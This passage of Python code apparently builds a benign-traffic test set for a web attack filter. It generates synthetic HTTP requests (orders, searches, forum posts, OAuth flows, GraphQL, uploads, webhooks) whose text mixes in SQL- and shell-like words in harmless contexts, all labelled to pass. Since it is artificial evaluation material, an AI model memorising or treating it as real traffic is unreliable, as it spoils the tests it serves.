FIRST = ["Liam", "Zoë", "Siobhan", "Seán", "José", "François", "Björn", "Małgorzata", "Ngozi", "Aarav", "Mei",
         "Yūki", "Olivia", "Chloé", "Dmitri", "Søren", "Ana-María", "Connor", "Fatima", "Émile", "Jürgen", "Priya"]
LAST = ["O'Brien", "D'Angelo", "Nguyen", "Müller", "García-López", "O'Neil", "van der Berg", "Smith-Jones",
        "Kowalski", "D'Souza", "Ó Súilleabháin", "MacDonald", "Øvergaard", "Dubois", "Tanaka", "Al-Rashid",
        "O'Connor", "de la Cruz", "Lefèvre", "Schmidt"]
CITIES = ["東京", "Zürich", "São Paulo", "Kraków", "Montréal", "Düsseldorf", "Москва", "القاهرة", "Reykjavík",
          "Coeur d'Alene", "St. John's", "Hồ Chí Minh", "München", "Ōsaka", "Athína", "Lyon"]
STREETS = ["123 Main St., Apt #4B", "Flat 2, 17 O'Connell Street", "Unit #12-05, 8 Marina Blvd",
           "Rue de l'Église 5, 3e étage", "742 Evergreen Terrace, Suite 300 (rear entrance)",
           "Hauptstraße 1/2, c/o Müller", "1-2-3 Shibuya, Shibuya-ku #501", "PO Box 77, Route 9 & Elm"]
PHONES = ["+1 (415) 555-0134", "+44 20 7946 0958", "+49 (0)30 1234567", "(212) 555-0199 ext. 42",
          "+81-3-1234-5678", "+33 1 23 45 67 89", "+1-800-555-0175 #2"]
COLORS = ["#ff5733", "#1e90ff", "rgb(34, 139, 34)", "hsl(210, 50%, 40%)", "#000", "rgba(0,0,0,0.5)", "#fafafa"]
EMAILS = ["zoe.obrien@example.com", "jose+orders@example.org", "o'neil.k@example.net", "info@müller.example",
          "first.last+tag@sub.example.co.uk", "d_angelo99@example.com"]

SEARCH_TERMS = [
    "select comfort mattress reviews", "union station parking rates", "drop earrings gold", "script writing course online",
    "alert settings iphone 15", "exec chair ergonomic lumbar", "flights from boston to denver", "where is the nearest pharmacy",
    "rock or metal playlist", "salt and pepper shaker set", "tom and jerry full episodes", "how to select all in excel",
    "european union tariffs 2024", "drop shipping business ideas", "java script tutorial for beginners",
    "order by date oldest first", "fire alarm alert sound", "sleep apnea test at home", "benchmark laptops 2024",
    "update drivers windows 11", "delete facebook account permanently", "insert picture into word document",
    "O'Reilly books python", "rock 'n' roll hall of fame", "Macy's black friday", "children's place coupons",
    "men's shoes size 10 wide", "don't stop believin lyrics", "c# vs java performance", "c++ primer 5th edition",
    "50% off coupon code", "AT&T store hours", "cat food for kittens", "system of a down tickets",
    "exec summary template word", "shell gas station near me", "python where clause pandas",
    "from scratch pizza dough", "truth or dare questions", "black and white photography", "null island",
    "table tennis rules", "waiting for godot summary", "drop-down menu css", "select committee hearing today",
    "wine & cheese pairing", "1/2 cup to grams", "5'10\" to cm", "size 8 1/2 boots", "is it 'who' or 'whom'",
    "grep vs find", "curl up and dye salon", "kill bill vol 2", "bash birthday party ideas",
    "what does sudo mean", "the script band tour", "sleep token album", "union jack flag meaning",
    "alert dog breed", "onload meaning", "x-men order to watch", "#1 bestseller list", "@home fitness",
]

FORUM_SENTENCES = [
    "I tried to select the right option from the dropdown, but the page just shows an alert and nothing happens.",
    "Where can I find the settings for notifications? I've looked under Account and Privacy.",
    "We drove from Lyon to Geneva and the border crossing took about 20 minutes.",
    "Does anyone know if the union rep will be at Thursday's meeting?",
    "My script for the school play is due on Friday, and I still haven't written act two.",
    "Please don't drop the table tennis club — it's the only thing my kids look forward to!",
    "I'd rather order from the local shop than wait three weeks for delivery.",
    "The executive summary should be no longer than one page (ideally half).",
    "Is it normal for the alarm to sound twice when the battery is low?",
    "She said \"we'll see\" — which, as everyone knows, means no.",
    "Thanks in advance; any help is appreciated :)",
    "Update: it turned out to be a loose cable. Sorry for the noise, and thanks to all who replied.",
    "We're selecting candidates from over 200 applications, so expect a reply by the end of the month.",
    "The café on the corner of 5th & Main has the best croissants in town, hands down.",
    "If you sleep less than 6 hours, your benchmark scores drop by 10-15% according to the study.",
    "Can someone explain the difference between 'affect' and 'effect' once and for all?",
    "The admin said the forum will be read-only from 22:00 to 23:30 UTC for maintenance.",
    "Our insert for the magazine uses a 4/4 colour process; the proofs look great.",
    "I'm 100% sure the shipment left the warehouse; the tracking number is 1Z999AA10123456784.",
    "Between you and me, the sequel was better than the original.",
    "The recipe says to mix flour and water, then let it rest — or was it the other way round?",
    "I sold my old bike for $150 (plus shipping), not bad for a 10-year-old frame.",
    "Run, don't walk, to see this exhibition before it closes on 3/15.",
    "Our kids' soccer team won 3-1 on Saturday; the coach's strategy finally paid off.",
    "Does the warranty cover water damage or only manufacturing defects?",
    "Having used both, I'd say the Pro version is worth it if you edit video daily.",
    "Question for the group: what's your go-to dinner when you're exhausted after work?",
    "The hike up to the summit is 12 km round trip with about 800 m of elevation gain.",
    "Let me know whether Tuesday or Wednesday works better for the call.",
    "I was told the system would be back up by noon, but it's 3 pm and still down.",
]

GRAPHQL_QUERIES = [
    ("query GetProduct($id: ID!) { product(id: $id) { id name price { amount currency } variants(first: 10) { edges { node { id sku title } } } } }",
     lambda r: {"id": "gid://shop/Product/" + str(r.randrange(10**6, 10**7))}),
    ("query Search($q: String!, $after: String) { search(query: $q, first: 20, after: $after) { pageInfo { hasNextPage endCursor } nodes { ... on Article { title slug } ... on User { login } } } }",
     lambda r: {"q": r.choice(SEARCH_TERMS), "after": b64url(b"cursor:" + str(r.randrange(1000)).encode())}),
    ("mutation UpdateProfile($input: ProfileInput!) { updateProfile(input: $input) { user { id displayName bio } errors { field message } } }",
     lambda r: {"input": {"displayName": r.choice(FIRST) + " " + r.choice(LAST), "bio": r.choice(FORUM_SENTENCES), "location": r.choice(CITIES)}}),
    ("fragment UserParts on User { id name avatarUrl(size: 64) }\nquery Viewer { viewer { ...UserParts organizations(first: 5) { nodes { login } } } }",
     lambda r: {}),
    ("mutation AddComment($subjectId: ID!, $body: String!) { addComment(input: {subjectId: $subjectId, body: $body}) { commentEdge { node { id url } } } }",
     lambda r: {"subjectId": "MDU6SXNzdWUx" + str(r.randrange(10**5)), "body": r.choice(FORUM_SENTENCES) + " " + r.choice(FORUM_SENTENCES)}),
    ("query Orders($filter: OrderFilter, $orderBy: [OrderSort!]) { orders(filter: $filter, orderBy: $orderBy, first: 25) { totalCount nodes { id status total createdAt } } }",
     lambda r: {"filter": {"status": {"in": ["OPEN", "PAID"]}, "createdAt": {"gte": "2024-01-01T00:00:00Z"}}, "orderBy": [{"field": "CREATED_AT", "direction": "DESC"}]}),
    ("query { __typename }", lambda r: {}),
    ("mutation CreateAddress($a: AddressInput!) { createAddress(address: $a) { id formatted } }",
     lambda r: {"a": {"line1": r.choice(STREETS), "city": r.choice(CITIES), "phone": r.choice(PHONES), "name": r.choice(FIRST) + " " + r.choice(LAST)}}),
]

DEV_POSTS = [
    "How do I speed this up? It takes 30 seconds on 2M rows:\n\n```sql\nSELECT u.id, u.email, COUNT(o.id) AS orders\nFROM users u\nLEFT JOIN orders o ON o.user_id = u.id\nWHERE u.created_at > NOW() - INTERVAL '30 days'\nGROUP BY u.id, u.email\nORDER BY orders DESC\nLIMIT 50;\n```\n\nI already have an index on `orders(user_id)`.",
    "Why does my UNION return duplicates?\n\n```sql\nSELECT name FROM customers\nUNION ALL\nSELECT name FROM suppliers;\n```\n\nAnswer: use `UNION` instead of `UNION ALL` if you want distinct rows.",
    "To clean old sessions I run this from cron:\n\n```bash\nfind /var/lib/php/sessions -type f -mmin +1440 -delete\n```\n\nIs there a better way?",
    "Here's the snippet that triggers the hydration error:\n\n```html\n<div id=\"app\">\n  <button onclick=\"toggle()\">Menu</button>\n</div>\n<script src=\"/static/main.js\"></script>\n```",
    "My migration fails with `relation already exists`:\n\n```sql\nCREATE TABLE IF NOT EXISTS audit_log (\n  id BIGSERIAL PRIMARY KEY,\n  actor TEXT NOT NULL,\n  created_at TIMESTAMPTZ DEFAULT now()\n);\nDROP INDEX IF EXISTS audit_log_actor_idx;\n```",
    "You can check open ports with:\n\n```\nsudo ss -tulpn | grep LISTEN\n```\n\nor `netstat -an` on older systems.",
    "In Python I'm doing:\n\n```python\nimport subprocess\nresult = subprocess.run(['git', 'log', '--oneline', '-n', '5'], capture_output=True, text=True)\nprint(result.stdout)\n```\n\nand it hangs on Windows. Any ideas?",
    "Parameterized queries FTW:\n\n```js\nconst rows = await db.query('SELECT * FROM products WHERE category = $1 AND price < $2', [cat, max]);\n```\n\nNever concatenate user input into SQL.",
    "The docs say to add this to `.htaccess`:\n\n```apache\nRewriteEngine On\nRewriteCond %{HTTPS} off\nRewriteRule ^(.*)$ https://%{HTTP_HOST}%{REQUEST_URI} [L,R=301]\n```",
    "Reproduction for the bug:\n\n```sh\ncurl -s https://api.example.com/v1/items?limit=5 | jq '.items[] | .name'\n```\n\nReturns null for items created after the migration.",
    "For the template I use Jinja like this: `{% for item in items %}{{ item.name }}{% endfor %}` and it renders fine locally.",
    "Dockerfile excerpt:\n\n```dockerfile\nFROM python:3.12-slim\nRUN apt-get update && apt-get install -y --no-install-recommends build-essential && rm -rf /var/lib/apt/lists/*\nCOPY . /app\nCMD [\"gunicorn\", \"app:app\"]\n```",
    "Why is `document.getElementById('x').innerHTML = data` flagged by our linter? Should I use `textContent`?",
    "Our nightly job does `pg_dump -Fc mydb > /backups/mydb_$(date +%F).dump` and then uploads to S3.",
    "PowerShell one-liner to list big files: `Get-ChildItem -Recurse | Sort-Object Length -Descending | Select-Object -First 10`",
    "I keep getting `ORA-00942: table or view does not exist` when running `SELECT * FROM hr.employees WHERE department_id = 10;` as the app user.",
]

WEBHOOK_MSGS = ["Fix SQL injection in search endpoint; drop unused sessions table",
                "Merge pull request #482 from feature/select-dropdown",
                "Update README: explain how to run ./scripts/setup.sh",
                "Bump lodash from 4.17.20 to 4.17.21",
                "Refactor: replace exec() calls with subprocess.run",
                "Add alert when disk usage > 90%",
                "Revert \"Use UNION ALL in reports query\"",
                "docs: fix typo in 'Getting started' (thanks @zoe)"]

I18N_TEXTS = ["東京で一番おいしいラーメン屋はどこですか？", "Где находится ближайшая станция метро?",
              "أين يمكنني شراء تذكرة القطار؟", "Wie spät ist es in Zürich?", "¿Dónde está la biblioteca?",
              "Ελληνικά: Καλημέρα σε όλους!", "한국어 검색: 서울 맛집 추천", "Tiếng Việt: phở bò ngon nhất Hà Nội",
              "עברית: איפה התחנה הקרובה?", "हिन्दी: सबसे अच्छा भोजन कहाँ है?", "Français : l'été à Montréal, c'est génial !",
              "Türkçe: İstanbul'da güzel bir otel önerir misiniz?", "Polski: Gdzie jest dworzec w Krakowie?",
              "中文：北京烤鸭哪家最好吃？", "ไทย: ร้านอาหารที่ดีที่สุดในกรุงเทพ", "Ελλάδα & Κύπρος – «ταξίδι»"]

EXT_URLS = ["https://www.example.com/checkout/complete?order=88213&ref=email",
            "https://accounts.example.org/oauth/callback", "https://docs.python.org/3/library/urllib.parse.html",
            "https://en.wikipedia.org/wiki/Union_(set_theory)", "https://github.com/rust-lang/rust/issues/12345#issuecomment-99",
            "https://cdn.example.net/img/banner.png?w=1200&h=630&fit=crop", "https://maps.google.com/?q=48.8584,2.2945",
            "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s", "https://hooks.example.com/services/T000/B000/XXXX"]


CSV_NOTES = ["select plan: pro", "drop-off at #3", "n/a", 'said ""yes"" on call']


def gen_benign():
    rng = random.Random(SEED + 2)
    rows = []
    counters = {}

    def add(cat, method, uri, headers, body=None):
        counters[cat] = counters.get(cat, 0) + 1
        rid = f"realworld/benign/{cat}/{counters[cat]:03d}"
        rows.append(record(rid, "realworld", cat, "pass", method, uri, headers, body))

    def name():
        return rng.choice(FIRST) + " " + rng.choice(LAST)

    def jwt():
        return make_jwt({"sub": uuid4(rng), "iss": "https://auth.example.com/", "aud": "api", "iat": 1712000000,
                         "exp": 1712003600, "name": name(), "email": rng.choice(EMAILS),
                         "scope": "openid profile email orders:read"}, rng)

    def api_headers(host, accept="json", auth=True):
        ua = rng.choice(UA_APPS + UA_BROWSERS)
        h = browser_headers(host, rng, accept=accept, ua=ua)
        if auth:
            h.append(["Authorization", "Bearer " + jwt()])
        if rng.random() < 0.4:
            h.append(["X-Request-ID", uuid4(rng)])
        return h

    # ---- api-json (70)
    for i in range(70):
        host = "api.example.com"
        kind = i % 7
        if kind == 0:
            obj = {"customer": {"name": name(), "email": rng.choice(EMAILS), "phone": rng.choice(PHONES),
                                "address": {"line1": rng.choice(STREETS), "city": rng.choice(CITIES), "postcode": "SW1A 1AA"}},
                   "items": [{"sku": f"SKU-{rng.randrange(10**4)}", "qty": rng.randrange(1, 5), "price": round(rng.random() * 100, 2),
                              "options": {"color": rng.choice(COLORS), "size": rng.choice(["S", "M", "L", "XL"])}} for _ in range(rng.randrange(1, 4))],
                   "notes": rng.choice(["Please leave it at the back door & ring twice.", "Gift wrap — it's for my mum's 60th!",
                                        "Call me at " + rng.choice(PHONES) + " if there's a problem.", "Deliver between 9am-5pm (weekdays only)", ""]),
                   "coupon": rng.choice([None, "SPRING-25%", "WELCOME10"])}
            m, u = "POST", "/v2/orders"
        elif kind == 1:
            obj = {"id": uuid4(rng), "displayName": name(), "bio": rng.choice(FORUM_SENTENCES), "website": rng.choice(EXT_URLS),
                   "tags": rng.sample(["rust", "select", "union", "drop-in", "script", "alerting", "exec-team", "where-to-eat"], 3),
                   "theme": {"primary": rng.choice(COLORS), "accent": rng.choice(COLORS)}}
            m, u = "PATCH", f"/v1/users/{uuid4(rng)}"
        elif kind == 2:
            obj = {"events": [{"type": rng.choice(["page_view", "click", "add_to_cart"]), "ts": 1712000000000 + rng.randrange(10**7),
                               "props": {"path": rng.choice(["/", "/cart", "/search?q=union+station", "/p/drop-earrings"]),
                                         "referrer": rng.choice(EXT_URLS), "screen": "1920x1080"}} for _ in range(3)],
                   "anonymousId": uuid4(rng), "context": {"locale": "ja-JP", "timezone": "Asia/Tokyo", "userAgent": rng.choice(UA_BROWSERS)}}
            m, u = "POST", "/v1/track"
        elif kind == 3:
            obj = [{"op": "replace", "path": "/profile/city", "value": rng.choice(CITIES)},
                   {"op": "add", "path": "/tags/-", "value": "select-members"},
                   {"op": "remove", "path": "/legacy/field"}]
            m, u = "PATCH", f"/v1/accounts/{rng.randrange(10**5)}"
        elif kind == 4:
            obj = {"query": {"bool": {"must": [{"match": {"title": rng.choice(SEARCH_TERMS)}}],
                                      "filter": [{"range": {"price": {"gte": 10, "lte": 200}}}, {"term": {"in_stock": True}}]}},
                   "sort": [{"_score": "desc"}, {"created_at": "desc"}], "from": 0, "size": 24}
            m, u = "POST", "/v1/catalog/_search"
        elif kind == 5:
            obj = {"title": rng.choice(["Q3 planning: where do we drop scope?", "Select vendors for 2025", "Union negotiations — notes",
                                        "Exec offsite agenda (draft)", "Alert fatigue retro"]),
                   "description": " ".join(rng.sample(FORUM_SENTENCES, 2)), "assignees": [name(), name()],
                   "due": "2024-06-30", "labels": ["planning", "p2"], "checklist": [{"text": "Book room #204", "done": False}]}
            m, u = "POST", "/v1/projects/42/tasks"
        else:
            obj = {"amount": rng.randrange(100, 99999), "currency": rng.choice(["usd", "eur", "jpy"]),
                   "metadata": {"order_id": str(rng.randrange(10**6)), "customer_name": name()},
                   "idempotency_key": uuid4(rng), "sha256": hashlib.sha256(str(i).encode()).hexdigest()}
            m, u = "POST", "/v1/payments/intents"
        body = json.dumps(obj, ensure_ascii=rng.random() < 0.5)
        add("api-json", m, u, with_body(api_headers(host), "application/json", body), body)

    # ---- search (60)
    for i in range(60):
        host = rng.choice(["www.example.com", "shop.example.com", "blog.example.io"])
        term = SEARCH_TERMS[i % len(SEARCH_TERMS)]
        qs = f"q={qp(term)}"
        if i % 3 == 0:
            qs += f"&page={rng.randrange(1, 9)}&sort=relevance"
        if i % 4 == 1:
            qs += "&category=" + qp(rng.choice(["Home & Garden", "Men's Clothing", "Books/Computers", "Toys, Kids & Baby"]))
        if i % 5 == 2:
            qs = f"search={q(term)}&type=all&lang=en"
        h = browser_headers(host, rng, cookie=std_cookie(rng) if rng.random() < 0.7 else None,
                            referer=f"https://{host}/" if rng.random() < 0.6 else None)
        add("search", "GET", f"/search?{qs}", h)

    # ---- forum-post (55)
    for i in range(55):
        host = "forum.example.org"
        title = rng.choice(["Help: select menu not working", "Union meeting Thursday?", "Best way to drop a class?",
                            "Script for the school play", "Where to eat in " + rng.choice(CITIES), "Alert sound too quiet",
                            "Exec chair recommendations", "Re: from Lyon to Geneva", "Or should I just buy new?",
                            "Delete my old posts?", "Update & thanks!"])
        text = "\n\n".join(" ".join(rng.sample(FORUM_SENTENCES, rng.randrange(2, 5))) for _ in range(rng.randrange(1, 4)))
        if i % 4 == 0:
            text += f"\n\n> {rng.choice(FORUM_SENTENCES)}\n\n**Edit:** see [this thread]({rng.choice(EXT_URLS)}) — *really* helpful."
        if i % 6 == 1:
            text += "\n\n- first point\n- second point (with 50% more detail)\n- third: A/B testing & roll-out"
        h = browser_headers(host, rng, cookie=std_cookie(rng), referer=f"https://{host}/t/{rng.randrange(10**5)}")
        if i % 3 == 0:
            body = json.dumps({"title": title, "raw": text, "category": rng.randrange(1, 20), "tags": ["help", "general"]}, ensure_ascii=False)
            add("forum-post", "POST", "/posts.json", with_body(h, "application/json", body), body)
        else:
            body = f"authenticity_token={qp(b64url(bytes(rng.randrange(256) for _ in range(32))))}&topic%5Btitle%5D={qp(title)}&topic%5Bbody%5D={qp(text)}&commit=Post"
            add("forum-post", "POST", "/topics", with_body(h, "application/x-www-form-urlencoded", body), body)

    # ---- browse (45)
    pages = ["/", "/products/drop-earrings-14k", "/blog/2024/04/union-station-history", "/en-gb/help/shipping-and-returns",
             "/category/home-garden?page=3", "/static/js/app.3f9c2b.js", "/assets/fonts/Inter-var.woff2", "/images/hero@2x.webp",
             "/account/orders", "/cart", "/wishlist", "/about-us", "/careers/software-engineer-backend", "/p/select-comfort-pillow",
             "/docs/api/v2/errors#rate-limits", "/favicon.ico", "/manifest.webmanifest", "/feed.xml", "/legal/terms-of-service"]
    for i in range(45):
        host = rng.choice(HOSTS)
        p = pages[i % len(pages)]
        acc = "any" if any(p.endswith(x) for x in (".js", ".woff2", ".webp", ".ico")) else "html"
        h = browser_headers(host, rng, accept=acc, cookie=std_cookie(rng) if i % 3 else None,
                            referer=f"https://{host}/" if i % 2 else None)
        if i % 5 == 0:
            h.append(["If-None-Match", f'W/"{rhex(16, rng)}"'])
        if i % 7 == 0:
            h.append(["Upgrade-Insecure-Requests", "1"])
        add("browse", "GET", p, h)

    # ---- list-filter (40)
    for i in range(40):
        host = "api.example.com"
        opts = [
            "sort=-created_at&page%5Bsize%5D=50&page%5Bnumber%5D=" + str(rng.randrange(1, 20)),
            "filter%5Bstatus%5D=open&filter%5Bassignee%5D=me&include=author,comments",
            "fields=id,name,email,updated_at&limit=100&offset=" + str(rng.randrange(0, 1000, 100)),
            "filter[status]=open&filter[priority]=high,critical&sort=priority,-updated_at",
            "fields[articles]=title,body&fields[people]=name&include=author",
            "select=id,title,author:users(name)&order=created_at.desc&status=eq.published",
            "$filter=" + q("Price gt 20 and Category eq 'Books'") + "&$orderby=Name%20desc&$top=10",
            "q=" + qp("status:open label:\"good first issue\" -label:wontfix") + "&per_page=30",
            "from=2024-01-01&to=2024-03-31&group_by=week&metrics=sessions,bounce_rate",
            "where=" + q(json.dumps({"country": "DE", "age": {"gte": 18}})) + "&sort=name",
            "ids[]=12&ids[]=15&ids[]=19&expand[]=customer&expand[]=invoice.lines",
            "cursor=" + b64url(json.dumps({"id": rng.randrange(10**6), "ts": 1712000000}).encode()) + "&limit=25",
            "order=asc&orderBy=lastName&lastName=" + q(rng.choice(LAST)),
            "drop_off=" + q("Terminal 2, Gate #14") + "&pickup_time=2024-05-01T08:30:00%2B02:00",
        ]
        uri = rng.choice(["/v1/issues", "/v2/articles", "/rest/v1/posts", "/odata/Products", "/v1/customers",
                          "/v1/reports/traffic", "/v3/search/issues"]) + "?" + opts[i % len(opts)]
        add("list-filter", "GET", uri, api_headers(host))

    # ---- auth (40)
    for i in range(40):
        host = rng.choice(["auth.example.com", "app.example.org", "portal.example.net"])
        k = i % 6
        if k == 0:
            verifier = b64url(bytes(rng.randrange(256) for _ in range(32)))
            chal = b64url(hashlib.sha256(verifier.encode()).digest())
            qs = ("response_type=code&client_id=" + rhex(24, rng) + "&redirect_uri=" + q("https://app.example.org/oauth/callback")
                  + "&scope=" + q("openid profile email offline_access") + "&state=" + b64url(bytes(rng.randrange(256) for _ in range(16)))
                  + "&nonce=" + rhex(16, rng) + "&code_challenge=" + chal + "&code_challenge_method=S256&prompt=login")
            add("auth", "GET", "/authorize?" + qs, browser_headers(host, rng, referer="https://app.example.org/login"))
        elif k == 1:
            body = ("grant_type=authorization_code&code=" + b64url(bytes(rng.randrange(256) for _ in range(30)))
                    + "&redirect_uri=" + qp("https://app.example.org/oauth/callback") + "&client_id=" + rhex(24, rng)
                    + "&code_verifier=" + b64url(bytes(rng.randrange(256) for _ in range(32))))
            h = [["Host", host], ["User-Agent", "okhttp/4.12.0"], ["Accept", "application/json"],
                 ["Authorization", "Basic " + base64.b64encode(f"{rhex(16, rng)}:{rhex(32, rng)}".encode()).decode()]]
            add("auth", "POST", "/oauth/token", with_body(h, "application/x-www-form-urlencoded", body), body)
        elif k == 2:
            pw = rng.choice(["P@ss'w0rd!#2024", "correct horse battery staple", "Tr0ub4dor&3", "S3cur3\"Pa$$\"", "x;Y<z>1=1?",
                             "hunter2--hunter2", "Zoë's-Passw0rd!", "(MyP4ss)*[2024]"])
            body = "email=" + qp(rng.choice(EMAILS)) + "&password=" + qp(pw) + "&remember_me=1&csrf=" + rhex(40, rng)
            add("auth", "POST", "/login", with_body(browser_headers(host, rng, cookie=std_cookie(rng), referer=f"https://{host}/login"),
                                                   "application/x-www-form-urlencoded", body), body)
        elif k == 3:
            body = "id_token=" + jwt() + "&state=" + rhex(32, rng) + "&session_state=" + uuid4(rng) + "." + rhex(8, rng)
            add("auth", "POST", "/oauth/callback", with_body(browser_headers(host, rng, referer="https://auth.example.com/"),
                                                            "application/x-www-form-urlencoded", body), body)
        elif k == 4:
            add("auth", "GET", "/oauth/callback?code=" + b64url(bytes(rng.randrange(256) for _ in range(24))) + "&state="
                + q(b64url(json.dumps({"returnTo": "/dashboard?tab=billing&range=30d", "nonce": rhex(8, rng)}).encode()))
                + "&scope=" + q("openid email profile"),
                browser_headers(host, rng, cookie=std_cookie(rng)))
        else:
            body = json.dumps({"username": rng.choice(EMAILS), "password": rng.choice(["Pa55--word", "my'secret\"pass", "or 1 more try!"]),
                               "mfa": {"type": "totp", "code": f"{rng.randrange(10**6):06d}"}, "device": {"name": "Zoë's iPhone", "id": uuid4(rng)}})
            add("auth", "POST", "/api/session", with_body(api_headers(host, auth=False), "application/json", body), body)

    # ---- graphql (35)
    for i in range(35):
        host = "api.example.com"
        qtext, vf = GRAPHQL_QUERIES[i % len(GRAPHQL_QUERIES)]
        obj = {"query": qtext, "variables": vf(rng)}
        opname = qtext.split("(")[0].split("{")[0].split()
        if len(opname) >= 2 and opname[0] in ("query", "mutation"):
            obj["operationName"] = opname[1]
        body = json.dumps(obj, ensure_ascii=False)
        add("graphql", "POST", "/graphql", with_body(api_headers(host), "application/json", body), body)

    # ---- upload (30)
    for i in range(30):
        host = rng.choice(["app.example.org", "portal.example.net"])
        k = i % 5
        if k == 0:
            csv_text = "id,name,email,city,notes\n" + "\n".join(
                f'{j},"{name()}",{rng.choice(EMAILS)},"{rng.choice(CITIES)}","{rng.choice(CSV_NOTES)}"'
                for j in range(1, 6))
            fields = [("file", csv_text, "contacts-2024-04.csv", "text/csv"), ("delimiter", ",", None, None), ("has_header", "true", None, None)]
        elif k == 1:
            png = "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x06\x00\x00\x00\x1f\xf3\xffa\x00\x00\x00\x19tEXtSoftware\x00Adobe ImageReady"
            fields = [("avatar", png, "me.png", "image/png"), ("crop", "0,0,16,16", None, None)]
        elif k == 2:
            txt = "Meeting notes — " + rng.choice(CITIES) + "\n\n" + "\n".join("* " + s for s in rng.sample(FORUM_SENTENCES, 4))
            fields = [("document", txt, "notes.txt", "text/plain"), ("folder", "Team/Q2 & Q3", None, None)]
        elif k == 3:
            jpg = "\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xdb\x00C\x00\x08\x06\x06"
            fields = [("photo", jpg, "IMG_2041.JPG", "image/jpeg"), ("caption", "Sunset over " + rng.choice(CITIES) + " 🌅", None, None),
                      ("alt", "A view from the bridge (taken at 7:45pm)", None, None)]
        else:
            md = "# Release notes\n\n- Fixed the drop-down selection bug\n- Added union of tag filters\n- Improved alert emails\n"
            fields = [("file", md, "CHANGELOG.md", "text/markdown"), ("message", "Update changelog for v2.3.1", None, None)]
        ct, body = multipart(fields, rng)
        h = browser_headers(host, rng, accept="json", cookie=std_cookie(rng), referer=f"https://{host}/upload")
        add("upload", "POST", "/api/uploads", with_body(h, ct, body), body)

    # ---- webhook (25)
    for i in range(25):
        if i % 2 == 0:
            obj = {"ref": "refs/heads/main", "before": rhex(40, rng), "after": rhex(40, rng),
                   "repository": {"id": rng.randrange(10**8), "full_name": "acme/storefront", "html_url": "https://github.com/acme/storefront"},
                   "pusher": {"name": "zoe-obrien", "email": "zoe.obrien@example.com"},
                   "commits": [{"id": rhex(40, rng), "message": rng.choice(WEBHOOK_MSGS), "timestamp": "2024-04-12T10:22:31+02:00",
                                "author": {"name": name(), "email": rng.choice(EMAILS)},
                                "added": ["src/search.py"], "removed": [], "modified": ["README.md", "migrations/0042_drop_sessions.sql"]}
                               for _ in range(rng.randrange(1, 3))]}
            body = json.dumps(obj)
            h = [["Host", "ci.example.com"], ["User-Agent", "GitHub-Hookshot/" + rhex(7, rng)], ["Accept", "*/*"],
                 ["X-GitHub-Event", "push"], ["X-GitHub-Delivery", uuid4(rng)],
                 ["X-Hub-Signature-256", "sha256=" + hashlib.sha256(body.encode()).hexdigest()]]
            add("webhook", "POST", "/hooks/github", with_body(h, "application/json", body), body)
        else:
            obj = {"id": "evt_" + rhex(24, rng), "object": "event", "type": rng.choice(["payment_intent.succeeded", "customer.updated", "invoice.paid"]),
                   "created": 1712000000 + rng.randrange(10**6), "livemode": False,
                   "data": {"object": {"id": "pi_" + rhex(24, rng), "amount": rng.randrange(100, 10**5), "currency": "eur",
                                       "description": rng.choice(["Order #1042 – Select Comfort pillow", "Union Street Café gift card", "Exec plan (annual)"]),
                                       "billing_details": {"name": name(), "address": {"line1": rng.choice(STREETS), "city": rng.choice(CITIES)}},
                                       "metadata": {"cart": "[12,45,78]", "coupon": "SPRING-25%"}}}}
            body = json.dumps(obj, ensure_ascii=False)
            h = [["Host", "api.example.com"], ["User-Agent", "Stripe/1.0 (+https://stripe.com/docs/webhooks)"], ["Accept", "*/*; q=0.5, application/xml"],
                 ["Stripe-Signature", f"t={1712000000 + i},v1={rhex(64, rng)}"]]
            add("webhook", "POST", "/webhooks/stripe", with_body(h, "application/json; charset=utf-8", body), body)

    # ---- i18n (35)
    for i in range(35):
        host = rng.choice(HOSTS)
        t = I18N_TEXTS[i % len(I18N_TEXTS)]
        if i % 3 == 0:
            add("i18n", "GET", "/search?q=" + q(t) + "&hl=" + rng.choice(["ja", "ru", "ar", "de", "zh-CN"]),
                browser_headers(host, rng, cookie=std_cookie(rng)))
        elif i % 3 == 1:
            body = json.dumps({"message": t, "author": name(), "city": rng.choice(CITIES)}, ensure_ascii=(i % 2 == 0))
            add("i18n", "POST", "/api/messages", with_body(api_headers(host), "application/json", body), body)
        else:
            body = "name=" + qp(name()) + "&city=" + qp(rng.choice(CITIES)) + "&comment=" + qp(t)
            add("i18n", "POST", "/contact", with_body(browser_headers(host, rng, cookie=std_cookie(rng)), "application/x-www-form-urlencoded", body), body)

    # ---- form (30): contact/checkout forms with addresses, phones, emails
    for i in range(30):
        host = "shop.example.com"
        fields = [("full_name", name()), ("email", rng.choice(EMAILS)), ("phone", rng.choice(PHONES)),
                  ("address", rng.choice(STREETS)), ("city", rng.choice(CITIES)),
                  ("message", rng.choice(["Hi, I ordered the drop earrings (order #10482) but received the wrong size; can I exchange them?",
                                          "Where's my parcel? Tracking says 'in transit' since 04/02.",
                                          "Please update my billing address; the old one was 12 Union St. & I moved.",
                                          "Can you select a gift box for me? Budget ~$30, colour: navy (#000080).",
                                          "My account shows an alert: \"payment failed\" — but the card was charged."]))]
        if i % 2:
            fields.append(("preferred_contact", rng.choice(["email", "phone or email", "text/SMS"])))
        body = "&".join(k + "=" + qp(v) for k, v in fields)
        add("form", "POST", "/contact", with_body(browser_headers(host, rng, cookie=std_cookie(rng), referer=f"https://{host}/contact"),
                                                 "application/x-www-form-urlencoded", body), body)

    # ---- tracking / redirects (25)
    for i in range(25):
        host = rng.choice(HOSTS)
        k = i % 5
        if k == 0:
            uri = "/landing/spring-sale?utm_source=newsletter&utm_medium=email&utm_campaign=" + q("spring_sale_2024 (EU)") + "&utm_content=hero-cta&gclid=" + b64url(bytes(rng.randrange(256) for _ in range(40)))
        elif k == 1:
            uri = "/login?redirect=" + q(rng.choice(EXT_URLS)) + "&reason=session_expired"
        elif k == 2:
            uri = "/r?to=" + q("https://partner.example.net/offer?id=77&src=shop") + "&sig=" + rhex(40, rng)
        elif k == 3:
            uri = "/px.gif?ev=view&u=" + q(rng.choice(EXT_URLS)) + "&r=" + q("https://www.google.com/") + "&sw=1440&sh=900&t=" + str(1712000000123 + i)
        else:
            uri = "/account/logout?return_to=" + q("/account/orders?id=5&tab=returns") + "&fbclid=IwAR" + b64url(bytes(rng.randrange(256) for _ in range(30)))
